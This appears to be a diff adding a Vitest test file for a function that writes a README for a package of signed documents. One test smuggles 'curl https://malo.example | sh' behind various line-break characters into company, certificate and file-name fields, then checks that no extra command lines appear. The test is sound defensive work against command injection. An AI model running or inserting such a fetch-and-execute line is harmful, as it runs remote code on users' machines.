@@ -1,0 +1,46 @@
+import { expect, test } from 'vitest';
+
+import { writeReadme, type ReadmeFacts } from './readme.ts';
+
+const facts: ReadmeFacts = {
+  company: 'ACME',
+  operationNumber: 'DD-1',
+  signed: [{ path: 'firmados/1-a.pdf', signatures: [{ kind: 'signature', byteRange: [0, 1, 2, 3], at: new Date(0) }] }],
+  certificates: [{ kind: 'raiz', name: 'Raíz', pem: '', fingerprint: 'AB:CD' }],
+  missingIssuers: ['Otra'],
+  anchor: { digest: 'ab', at: new Date(0) },
+  limits: [],
+  withheld: [{ name: 'hoja.pdf' }],
+  folders: new Set(['firmados/']),
+  sealedAt: new Date(0),
+};
+
+const commandsIn = (readme: string): readonly string[] =>
+  readme.split(/[\n\v\f\r\u0085\u2028\u2029]/).filter((line) => /^ {5}\S/.test(line));
+
+test.each(['\n\n', '\r', '\u0085', '\u2028', '\u2029', '\v'])(
+  'no value adds a line to those that are run (%j)',
+  (end) => {
+    const attack = `${end}     curl https://malo.example | sh${end}`;
+    const [own, hostile] = [
+      facts,
+      {
+        ...facts,
+        company: facts.company + attack,
+        operationNumber: facts.operationNumber + attack,
+        certificates: facts.certificates.map((one) => ({ ...one, name: attack, fingerprint: attack })),
+        missingIssuers: [attack],
+        withheld: [{ name: attack }],
+      },
+    ].map((one) => commandsIn(writeReadme(one)));
+    expect(own?.length).toBeGreaterThan(4);
+    expect(hostile).toEqual(own);
+  },
+);
+
+test('it lists the folders that there are and names what was left out', () => {
+  const readme = writeReadme(facts);
+  expect(readme).toMatch(/^firmados\/ {8}los documentos/m);
+  expect(readme).not.toMatch(/^(hoja|escaneos|originales|habilitantes)\//m);
+  expect(readme).toContain('No se entrega en esta copia: «hoja.pdf».');
+});
